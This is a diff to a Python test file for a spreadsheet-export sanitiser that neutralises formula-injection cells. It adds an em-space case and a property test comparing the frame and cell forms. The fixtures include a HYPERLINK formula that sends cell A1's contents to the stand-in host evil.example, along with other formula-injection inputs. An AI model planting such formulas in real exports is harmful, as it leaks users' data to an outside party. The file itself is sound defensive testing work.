@@ -13,6 +13,7 @@ from tasks.common.spreadsheet_safety import (
     is_formula,
     is_unsafe_start,
     neutralise,
+    neutralise_cell,
 )
 from tasks.ingest.mapping import map_columns
 from tasks.ingest.normalize import normalize_table
@@ -20,7 +21,16 @@ from tasks.ingest.normalize import normalize_table
 HYPERLINK = 'HYPERLINK("http://evil.example/?"&A1,"x")'
 # What a spreadsheet evaluates: each one passed the filter before.
 EVALUATED = [f"-1+{HYPERLINK}", f"+1+{HYPERLINK}", "@A1", "-A1*2", "+$B$2", "@SUM(A1:A3)"]
-UNSAFE_STARTS = [*EVALUATED, "=1+1", "\t=1+1", "\r=1+1", " =1+1", "-", "+55 11 98765-4321"]
+UNSAFE_STARTS = [
+    *EVALUATED,
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u2003=1+1",
+    "-",
+    "+55 11 98765-4321",
+]
 
 
 @pytest.mark.parametrize("cell", EVALUATED)
@@ -45,6 +55,13 @@ def test_no_neutralised_cell_starts_unsafely(cell: str) -> None:
     out = neutralise(pd.DataFrame({"c": [cell]}))["c"].iloc[0]
     assert not is_unsafe_start(out)
     assert out in (cell, "'" + cell)
+
+
+@given(st.lists(st.text(alphabet=st.sampled_from(" \u2003\u00a0\t=+-@ab1"), max_size=6)))
+def test_the_frame_and_the_cell_forms_neutralise_the_same_cells(cells: list[str]) -> None:
+    """XLSX and JSON exports go through the frame form, CSV through the cell form."""
+    out = neutralise(pd.DataFrame({"c": pd.Series(cells, dtype=object)}))["c"].tolist()
+    assert out == [neutralise_cell(cell) for cell in cells]
 
 
 HEADER = ["Nome", "Sobrenome", "E-mail", "Empresa", "Celular", "Observações"]
